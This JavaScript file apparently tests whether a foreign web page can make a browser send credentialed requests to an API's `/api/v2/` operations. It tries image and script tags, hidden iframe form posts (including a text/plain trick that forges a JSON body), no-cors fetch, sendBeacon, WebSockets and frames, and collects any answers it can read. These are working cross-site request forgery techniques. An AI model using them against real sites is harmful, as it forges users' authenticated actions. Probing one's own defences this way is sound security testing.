// What a page of somebody else's can have a browser send to the server at `base`, for each operation in each way.
// Nothing waits for good: what is not answered within a while counts as sent.
const patience = 4000;

const within = (promise) => Promise.race([promise.catch(() => "refused"), new Promise((done) => setTimeout(done, patience, "late"))]);

const loaded = (element) =>
  within(new Promise((done) => {
    element.onload = element.onerror = () => {
      element.remove();
      done("sent");
    };
    document.body.append(element);
  }));

function element(name, attributes) {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) {
    made.setAttribute(key, value);
  }
  return made;
}

const plain = (value) => (typeof value === "object" ? JSON.stringify(value) : String(value));

/** Posts a form into a frame, as a form of any page can be. */
function post(url, encoding, body) {
  const frame = element("iframe", { name: "f" + Math.random() });
  const form = element("form", { action: url, method: "POST", enctype: encoding, target: frame.name });
  if (encoding === "text/plain") {
    // Becomes {"…":…,"x":"="} on the way: a JSON text.
    const text = JSON.stringify(body);
    form.append(element("input", { name: text.slice(0, -1) + (text === "{}" ? "" : ",") + '"x":"', value: '"}' }));
  } else {
    for (const [name, value] of Object.entries(body)) {
      form.append(element("input", { name, value: plain(value) }));
    }
  }
  document.body.append(form);
  const done = within(new Promise((sent) => {
    document.body.append(frame);
    // The first one is of the empty frame.
    frame.onload = () => {
      frame.onload = () => sent("sent");
      form.submit();
    };
  }));
  return done.finally(() => {
    form.remove();
    frame.remove();
  });
}

/** The fields of a form as they are sent in an encoding. */
function fields(body, made) {
  for (const [name, value] of Object.entries(body)) {
    made.append(name, plain(value));
  }
  return made;
}

const quiet = (url, body) => within(fetch(url, { method: "POST", credentials: "include", mode: "no-cors", body }));
const encodings = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];

// A form takes a frame, which is much for a browser: each operation gets one in one of the encodings, and all of them by fetch.
const ways = {
  image: (url, { query }) => loaded(element("img", { src: url + query })),
  script: (url, { query }) => loaded(element("script", { src: url + query })),
  get: (url, { query }) => within(fetch(url + query, { credentials: "include", mode: "no-cors" })),
  form: (url, { body, number }) => post(url, encodings[number % 3], body),
  urlencoded: (url, { body }) => quiet(url, fields(body, new URLSearchParams())),
  multipart: (url, { body }) => quiet(url, fields(body, new FormData())),
  text: (url, { body }) => quiet(url, JSON.stringify(body)),
  preflight: (url, { body }) =>
    within(fetch(url, {
      method: "POST",
      credentials: "include",
      headers: { "Content-Type": "application/json", "X-Leanto": "ui" },
      body: JSON.stringify(body),
    })),
  beacon: async (url, { body }) => navigator.sendBeacon(url, new Blob([JSON.stringify(body)], { type: "text/plain" })),
};

/** Tries each operation in each way, eight at a time; gives what a script could read of the answers. */
async function attack(base, operations) {
  const tries = operations.flatMap(({ operation, body }, number) =>
    Object.entries(ways).map(([way, go]) => async () => {
      const query = "?" + fields(body, new URLSearchParams());
      const answer = await go(base + "/api/v2/" + operation, { body, query, number });
      return answer instanceof Response && answer.type !== "opaque" ? way + " " + operation + ": " + (await answer.text()) : "";
    }));
  const read = [];
  await Promise.all(Array.from({ length: 8 }, async () => {
    for (let next = tries.pop(); next; next = tries.pop()) {
      read.push(await next());
    }
  }));
  return read.filter((one) => one !== "");
}

/** Asks for a connection that stays. */
const socket = (url) =>
  within(new Promise((done) => {
    const made = new WebSocket(url);
    made.onopen = () => done("open");
    made.onerror = () => done("refused");
  }));

/** Puts a page into a frame, for as long as it loads. */
const frame = (url) => loaded(element("iframe", { src: url }));
